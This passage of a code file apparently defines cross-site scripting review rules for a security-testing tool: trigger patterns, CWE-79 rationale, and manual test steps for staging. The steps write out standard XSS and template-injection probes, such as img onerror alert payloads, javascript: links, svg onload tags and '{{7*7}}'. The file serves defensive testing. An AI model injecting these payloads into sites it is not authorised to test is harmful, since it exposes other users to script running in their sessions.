          "As its author, send <img src=x onerror=alert(document.domain)> as {text} to {endpoint} by hand.",
          "As its author, save the {text}, with what was typed replaced in the request by <img src=x onerror=alert(document.domain)>.",
          "As the author, send <img src=x onerror=alert(document.domain)> to {endpoint} by hand as the formatted text.",
          "As the author, send <img src=x onerror=alert(document.domain)> by hand as the text that the quoted line is about.",
        ],
        "Send <a href=javascript:alert(1)>x</a>, [x](javascript:alert(1)) and <svg><script>alert(1)</script></svg>.",
        "In the second browser, open each page, list and mail that shows it, and follow the links.",
      ],
      failsIf: "an alert opens in the second browser",
    },
    example: "House rules\n\nHosts write the house rules in bold and italic with a small editor.",
    counterexample: "House rules\n\nThe house rules stand above the price.",
  },
  {
    id: "shows-text-from-elsewhere",
    topicOnly: true,
    when: [
      "[source:feed|feeds|rss|oembed|opengraph|webmention|tokenuri|ics|calendar|dhcp|hostname|mdns|jsonld|metadata|exif|partner|provider|providers|publisher|onebox|resolver|resolvers|crawler|headers|response] .... shown|show|title|description|name|html|page|rendered|text|content|links|display|preview|tab|goes|inserted|body",
      "shown|show|shows|title|description|names|rendered .... from|of the|a|their|its? .. [source:feed|feeds|archive|hostname|file|metadata|page|site|server|response|clipboard|contract|query|log|terminal]",
      "[source:log|logs|terminal|console|ansi|stack|trace] .... shown|spans|coloured|colored|rendered|view|page|highlight",
    ],
    unless: ["log in|out|level"],
    cwe: 79,
    severity: "medium",
    rationale: "whoever runs the source decides what is sent, and it runs in the session of the reader here",
    name: [
      "A script in the {source} can run where {endpoint} displays it",
      "Markup from the {source} can run for readers here",
      "“{line}”: markup from outside can run for readers",
      "Markup from an outside source can run for readers here",
    ],
    consequence:
      "So text that the product did not write is put before its users. Whoever runs the source puts a tag there, and it runs in the reader's session, unless the text is encoded where it is displayed.",
    control: CLEANED,
    test: {
      technique: "inject-input",
      title: "Have the outside source send markup",
      setUp:
        "A source of the tester's own in the same format, connected to staging, and a browser with its console open.",
      steps: [
        "In the tester's source, set each text to <img src=x onerror=alert(document.domain)> and each address to javascript:alert(1).",
        "Set them to &lt;svg onload=alert(1)&gt; too, for places that decode entities.",
        "Have staging read the source, open each page that displays it and follow the links.",
      ],
      failsIf: "an alert opens",
    },
    example: "Town events\n\nThe feed of the town gives title and place, both are shown on the page.",
    counterexample: "Town events\n\nThe page has the next event first.",
  },
  {
    id: "shows-names-and-notes",
    topicOnly: true,
    when: [
      "[text:name|names|nick|nickname|username|usernames|hashtag|hashtags|mention|mentions|contact|hostname|caption|captions|title|titles|label|labels|tag|tags|ssid|alias] .... free|any|shown|show|shows|appear|appears|mail|page|unicode|emoji|typed|characters|displayed|escape|autocomplete|list|lists|text|overlay",
      "[text:comment|comments|review|reviews|note|notes|message|messages|reply|replies|post|posts|question|bio|bios|description|descriptions|feedback|answer|answers|reason|reference|signature|announcement|banner|greeting|story] .... shown|show|shows|appear|appears|public|page|mail|text|guests|without|account|free|displayed|rendered|list|typed|typed_in|can|visible|queue|printed",
      "free [text:text]",
      "[text:tooltip|tooltips|popover|popovers|legend|badge|notification|notifications|toast] .... text|name|html|shows|title|message",
      "volunteers|visitors|guests|customers|members|leads .. apply|write|request|type|enter|comment",
    ],
    unless: [
      "file|host|domain|class|variable|function name|names",
      "commit|release notes",
      "autocomplete|hash|price tag",
    ],
    cwe: 79,
    severity: "medium",
    rationale: "one place that does not encode it is enough, and it then acts for each reader",
    name: [
      "Markup in the {text} sent to {endpoint} can run where others read it",
      "A tag typed into the {text} can run for whoever reads it",
      "Where {subject} may {predicate}, a tag in it can run for readers",
      "“{line}”: a tag in that text can run for its readers",
      "Markup that is typed can run in some place that displays it",
    ],
    consequence:
      "So one person's text is put before others. In any place that builds HTML from it without encoding, such as a list, a title, a mail or a tooltip, a tag in it runs for the reader.",
    control: CLEANED,
    test: {
      technique: "inject-input",
      title: ["Type markup as {text} and open what displays it", "Type markup and open what displays it"],
      setUp: READERS,
      steps: [
        [
          "As the author, send <img src=x onerror=alert(document.domain)> to {endpoint} as {text}.",
          "As the author, type <img src=x onerror=alert(document.domain)> as {text}.",
          "As the author, type <img src=x onerror=alert(document.domain)> as the text that the quoted line is about.",
        ],
        'Type "><svg onload=alert(1)> and {{7*7}} in the same place.',
        "In the second browser, open each list, page and message that displays it.",
      ],
      failsIf: "an alert opens, 49 is shown, or a typed element stands in the element tree",
    },
    example: "Seat names\n\nThe name of a seat appears in the list of the hall.",
    counterexample: "Seats\n\nSeats of the hall are sold from the front.",
  },
  {
    id: "general-xss",
    cwe: 79,
    severity: "medium",
    rationale: "a script that runs there acts with the rights of whoever opens it",
    name: [
      "Where {subject} may {predicate}, a script in it may run in browsers",
      "A script sent to {endpoint} may run in a reader's browser",
      "A script that reaches {code} may run in a reader's browser",
      "“{line}”: markup in it may run in a reader's browser",
      "A script in what is displayed may run in its reader's browser",
    ],
    consequence: [
      "If what is put in by {subject} here is shown as it came, a tag in it runs as a script in the browser of whoever opens it.",
      "If what is sent to {endpoint} is shown as it came, a tag in it runs as a script in the browser of whoever opens it.",
      "If what {code} brings into a browser is written by others and shown as it came, a tag in it runs as a script there.",
      "If what that line puts into a browser is written by others and shown as it came, a tag in it runs as a script there.",
    ],
    test: {
      technique: "inject-input",
      title: [
        "Send scripts to {endpoint} and open what comes of them",
        "Send scripts through {code} and open what comes of them",
        "Put scripts into what “{line}” is about and open it",
        "Put scripts into what the line displays and open it",
      ],
      setUp: "Staging, a way to set what the line displays, and a second browser with its console open.",
      steps: [
        [
          "As the sender the line names, send <img src=x onerror=alert(document.domain)> to {endpoint} as each text value.",
          "As the author the line names, set each text that reaches {code} to <img src=x onerror=alert(document.domain)>.",
          "As its author, put <img src=x onerror=alert(document.domain)> into each text that “{line}” is about.",
          "As the author the line names, set each displayed text to <img src=x onerror=alert(document.domain)>.",
        ],
        'Repeat with "><svg onload=alert(document.domain)>.',
        "In the second browser, open each place that shows it and follow its links.",
      ],
      failsIf: "an alert opens in the second browser and names the product's own domain",
    },
  },
];
